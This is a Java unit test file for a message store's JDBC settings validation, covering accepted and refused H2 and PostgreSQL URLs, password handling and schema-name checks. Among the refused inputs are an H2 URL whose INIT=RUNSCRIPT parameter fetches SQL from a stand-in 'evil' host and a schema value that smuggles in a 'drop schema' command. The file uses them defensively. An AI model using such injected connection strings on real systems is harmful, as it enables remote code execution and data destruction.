// SPDX-License-Identifier: Apache-2.0
package io.oncemq.store.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;
import static org.assertj.core.api.Assertions.assertThatNoException;

import java.time.Duration;
import org.h2.jdbcx.JdbcDataSource;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class StoreSettingsTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:file:./data/store",
                "jdbc:h2:./data/store",
                "jdbc:h2:/var/lib/store",
                "jdbc:h2:~/store",
                "jdbc:h2:C:/data/store",
                "jdbc:h2:async:/var/lib/store",
                "jdbc:h2:oncemq:/var/lib/store",
                "jdbc:h2:mem:test",
                "jdbc:h2:mem:test;DB_CLOSE_DELAY=-1",
                "jdbc:h2:FILE:./data/store;compress=true;",
                "jdbc:h2:./data/store;WRITE_DELAY=0",
                "jdbc:postgresql://localhost/oncemq",
                "jdbc:postgresql://a:5432,b:5432/oncemq?targetServerType=primary&sslmode=verify-full",
                "jdbc:postgresql:oncemq"
            })
    void urlOfAnEmbeddedH2OrOfPostgresIsAccepted(String url) {
        assertThatNoException().isThrownBy(() -> StoreSettings.url(url, "user", "secret"));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "jdbc:h2:tcp://localhost/store | tcp",
                "jdbc:h2:ssl://localhost/store | ssl",
                "jdbc:h2:TCP://localhost/store | TCP",
                "jdbc:h2:zip:store.zip!/store | zip",
                "jdbc:h2:nio:./store | nio",
                "jdbc:h2:file: | file",
                "jdbc:h2: | file",
                "jdbc:h2:./store;AUTO_SERVER=TRUE | AUTO_SERVER",
                "jdbc:h2:./store;auto_server=true | AUTO_SERVER",
                "jdbc:h2:./store; Auto_Server = true | AUTO_SERVER",
                "jdbc:h2:./store;INIT=RUNSCRIPT FROM 'http://evil/x.sql' | INIT",
                "jdbc:h2:./store;MODE=Oracle | MODE",
                "jdbc:h2:./store;CIPHER=AES | CIPHER",
                "jdbc:h2:oncemq: | file",
                "jdbc:h2:oncemq:nio:./store | nio",
                "jdbc:h2:async:zip:x.zip!/store | zip",
                "jdbc:h2:./store;WRITE_DELAY=500 | WRITE_DELAY",
                "jdbc:h2:./store;FILE_LOCK=NO | FILE_LOCK",
                "jdbc:h2:./store;ACCESS_MODE_DATA=r | ACCESS_MODE_DATA",
                "jdbc:h2:./store;CACHE_SIZE=1\\;INIT=x | INIT",
                "jdbc:oracle:thin:@x | jdbc:oracle:",
                "mysql | jdbc:h2:"
            })
    void otherUrlIsRefusedByTheNameOfWhatIsWrong(String url, String part) {
        assertThatIllegalArgumentException()
                .isThrownBy(() -> StoreSettings.url(url, "user", "secret"))
                .withMessageStartingWith("url")
                .withMessageContaining(part)
                .withMessageNotContaining("evil");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:./store;PASSWORD=hush",
                "jdbc:h2:./store;USER=sa;password=hush",
                "jdbc:postgresql://host/db?password=hush",
                "jdbc:postgresql://host/db?ssl=true&Password=hush"
            })
    void passwordInTheUrlIsRefusedAndNotRepeated(String url) {
        assertThatIllegalArgumentException()
                .isThrownBy(() -> StoreSettings.url(url, "user", "secret"))
                .withMessageContaining("setting")
                .withMessageNotContaining("hush");
    }

    @Test
    void passwordIsNeverShown() {
        StoreSettings settings = StoreSettings.url("jdbc:postgresql://host/db?sslpassword=hush", "someone", "secret");

        assertThat(settings.toString())
                .contains("jdbc:postgresql://host/db", "someone")
                .doesNotContain("secret", "hush");
    }

    @Test
    void schemaMustBeAPlainIdentifier() {
        StoreSettings settings = StoreSettings.url("jdbc:postgresql:db", "user", "secret");

        assertThat(settings.withSchema("messages_1").schema()).isEqualTo("messages_1");
        for (String schema : new String[] {"", "a b", "a\"b", "1a", "x".repeat(64), "a;drop schema b"}) {
            assertThatIllegalArgumentException()
                    .isThrownBy(() -> settings.withSchema(schema))
                    .withMessageStartingWith("schema");
        }
    }

    @Test
    void eitherUrlOrDataSourceIsSet() {
        assertThatIllegalArgumentException()
                .isThrownBy(() -> new StoreSettings(
                        "jdbc:h2:mem:x",
                        null,
                        null,
                        new JdbcDataSource(),
                        Durability.POWER,
                        SchemaManagement.MIGRATE,
                        null,
                        4,
                        Duration.ofSeconds(5)))
                .withMessageContaining("url and dataSource");
    }

    @Test
    void limitsAreChecked() {
        StoreSettings settings = StoreSettings.url("jdbc:h2:mem:x", null, null);

        assertThat(settings.poolSize()).isEqualTo(4);
        assertThat(settings.connectionTimeout()).isEqualTo(Duration.ofSeconds(5));
        assertThat(settings.durability()).isEqualTo(Durability.POWER);
        assertThat(settings.schemaManagement()).isEqualTo(SchemaManagement.MIGRATE);
        assertThatIllegalArgumentException()
                .isThrownBy(() -> settings.withPoolSize(0))
                .withMessageContaining("poolSize");
        assertThatIllegalArgumentException()
                .isThrownBy(() -> settings.withConnectionTimeout(Duration.ZERO))
                .withMessageContaining("connectionTimeout");
    }

    @Test
    void ourConnectionsGetWhatTheStoreNeeds() {
        assertThat(JdbcUrl.completed("jdbc:h2:./store", 5, null, Durability.POWER))
                .isEqualTo("jdbc:h2:oncemq:./store;DB_CLOSE_ON_EXIT=FALSE;WRITE_DELAY=0;RETENTION_TIME=0");
        assertThat(JdbcUrl.completed("jdbc:h2:File:~/store", 5, null, Durability.POWER))
                .isEqualTo("jdbc:h2:oncemq:~/store;DB_CLOSE_ON_EXIT=FALSE;WRITE_DELAY=0;RETENTION_TIME=0");
        assertThat(JdbcUrl.completed("jdbc:h2:mem:x", 5, null, Durability.POWER))
                .isEqualTo("jdbc:h2:mem:x;DB_CLOSE_ON_EXIT=FALSE;WRITE_DELAY=0");
        assertThat(JdbcUrl.completed("jdbc:h2:./store;db_close_on_exit=true", 5, null, Durability.POWER))
                .isEqualTo("jdbc:h2:oncemq:./store;db_close_on_exit=true;WRITE_DELAY=0;RETENTION_TIME=0");
        assertThat(JdbcUrl.completed("jdbc:h2:./store;retention_time=9", 5, null, Durability.POWER))
                .isEqualTo("jdbc:h2:oncemq:./store;retention_time=9;DB_CLOSE_ON_EXIT=FALSE;WRITE_DELAY=0");
        assertThat(JdbcUrl.completed("jdbc:h2:./store", 5, null, Durability.PROCESS))
                .isEqualTo("jdbc:h2:oncemq:./store;DB_CLOSE_ON_EXIT=FALSE;WRITE_DELAY=0");
        assertThat(JdbcUrl.completed("jdbc:postgresql:db?socketTimeout=7", 5, "messages", Durability.POWER))
                .startsWith("jdbc:postgresql:db?socketTimeout=7&")
                .contains("&reWriteBatchedInserts=true", "&currentSchema=messages", "&connectTimeout=5")
                .doesNotContain("socketTimeout=30");
    }
}
